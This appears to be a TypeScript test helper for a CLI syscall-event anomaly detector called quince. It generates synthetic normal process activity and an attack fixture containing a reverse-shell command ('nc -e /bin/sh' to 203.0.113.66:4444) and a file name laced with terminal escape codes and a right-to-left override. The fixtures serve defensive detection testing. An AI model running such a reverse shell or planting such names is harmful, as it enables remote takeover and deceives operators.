import { type ChildProcess, spawn } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';

const MAIN = fileURLToPath(new URL('../dist/app/cli/main.js', import.meta.url));

export interface Result {
  readonly status: number | null;
  readonly stdout: string;
  readonly stderr: string;
  /** Standard output as JSON lines. */
  // biome-ignore lint/suspicious/noExplicitAny: tests say themselves what they expect
  readonly json: Record<string, any>[];
}

export interface RunOptions {
  readonly input?: string;
  readonly env?: Readonly<Record<string, string>>;
  /** Standard input is not ended. */
  readonly keepOpen?: boolean;
  readonly onStart?: (child: ChildProcess) => void;
}

/** Runs the built command and waits for its end. */
export function quince(args: readonly (string | number)[], options: RunOptions = {}): Promise<Result> {
  return runNode([MAIN, ...args.map(String)], options);
}

export function runNode(args: readonly string[], { input, env, keepOpen, onStart }: RunOptions = {}): Promise<Result> {
  const { QUINCE_LOG: _, NO_COLOR: __, ...inherited } = process.env;
  const child = spawn(process.execPath, args, { env: { ...inherited, ...env } });
  const out: Buffer[] = [];
  const err: Buffer[] = [];
  child.stdout.on('data', (bytes: Buffer) => out.push(bytes));
  child.stderr.on('data', (bytes: Buffer) => err.push(bytes));
  child.stdin.on('error', () => undefined);
  if (!keepOpen) child.stdin.end(input ?? '');
  onStart?.(child);
  return new Promise((resolve, reject) => {
    child.on('error', reject);
    child.on('close', (status) => {
      const stdout = Buffer.concat(out).toString();
      resolve({
        status,
        stdout,
        stderr: Buffer.concat(err).toString(),
        get json() {
          return stdout
            .split('\n')
            .filter((line) => line !== '')
            .map((line) => JSON.parse(line));
        },
      });
    });
  });
}

/** A folder that is gone after the tests. */
export class Folder {
  readonly path = mkdtempSync(join(tmpdir(), 'quince-cli-'));

  file(name: string, content?: string | Uint8Array): string {
    const path = join(this.path, name);
    if (content !== undefined) writeFileSync(path, content);
    return path;
  }

  remove(): void {
    rmSync(this.path, { recursive: true, force: true });
  }
}

export type PlainEvent = Record<string, string | number>;

const PROGRAMS = [
  { exe: '/usr/bin/curl', parent: '/bin/sh', user: 'www', port: 443 },
  { exe: '/usr/bin/git', parent: '/usr/bin/bash', user: 'alice', port: 22 },
  { exe: '/usr/sbin/logrotate', parent: '/usr/sbin/cron', user: 'root', port: 0 },
  { exe: '/usr/bin/psql', parent: '/usr/bin/bash', user: 'deploy', port: 5432 },
];

/** Ordinary work of a host from a second on: `processes` short processes of four programs, pseudo-random by seed. */
export function ordinaryWork(seed: number, startUs: number, processes: number): PlainEvent[] {
  let state = seed;
  const random = (n: number) => {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    return (state >>> 16) % n;
  };
  return Array.from({ length: processes }, (_, i) => {
    const { exe, parent, user, port } = PROGRAMS[random(PROGRAMS.length)]!;
    const comm = exe.slice(exe.lastIndexOf('/') + 1);
    const at = startUs + i * 200_000;
    const own = {
      host: 'web1',
      pid: 2000 + i,
      ppid: 1,
      ns_ppid: 1,
      proc: String(seed * 1_000_000 + i),
      parent_proc: '1',
      comm,
      exe,
      parent_exe: parent,
      ancestors: `${parent}>/sbin/init`,
      user,
      group: user,
      args: `${comm} --job ${random(9)}`,
    };
    const socket = { saddr: '10.0.0.5', sport: 40_000 + random(9000), daddr: `10.0.0.${10 + random(3)}`, proto: 'tcp' };
    return [
      { ts: at, syscall: 'exec', ...own },
      ...(port === 0 ? [] : [{ ts: at + 1000, syscall: 'connect', ret: 0, dport: port, ...own, ...socket }]),
      ...(port === 0 ? [] : [{ ts: at + 5000, syscall: 'close', bytes_out: 9, dport: port, ...own, ...socket }]),
      { ts: at + 9000, syscall: 'exit', ...own },
    ] as PlainEvent[];
  }).flat();
}

/** What a terminal would obey and a reader would not see. */
export const HOSTILE_EXE = '/tmp/\u001b[31m\u202enc\u009b2J\u0007';
export const ATTACK_PROC = '424242424242';

/** A shell sent out, by a program with a hostile name, and a row about a loss. */
export function attack(atUs: number): PlainEvent[] {
  const own = {
    host: 'web1',
    pid: 66_666,
    ppid: 1,
    ns_ppid: 1,
    proc: ATTACK_PROC,
    parent_proc: '1',
    comm: 'nc',
    exe: HOSTILE_EXE,
    parent_exe: '/usr/sbin/nginx',
    ancestors: '/usr/sbin/nginx>/sbin/init',
    user: 'www',
    group: 'www',
    args: 'nc -e /bin/sh 203.0.113.66 4444',
  };
  const socket = { saddr: '10.0.0.5', sport: 50_000, daddr: '203.0.113.66', dport: 4444, proto: 'tcp' };
  return [
    { ts: atUs, syscall: 'exec', ...own },
    { ts: atUs + 1000, syscall: 'connect', ret: 0, ...own, ...socket },
    { ts: atUs + 2000, syscall: 'lost', host: 'web1', count: 3, reason: 'ring_full', cpu: 0 },
  ];
}

export function jsonLines(rows: readonly PlainEvent[]): string {
  return `${[...rows]
    .sort((a, b) => Number(a.ts) - Number(b.ts))
    .map((row) => JSON.stringify(row))
    .join('\n')}\n`;
}

export const TRAIN_US = 1_790_000_000_000_000;
export const SCORE_US = TRAIN_US + 3_600_000_000;
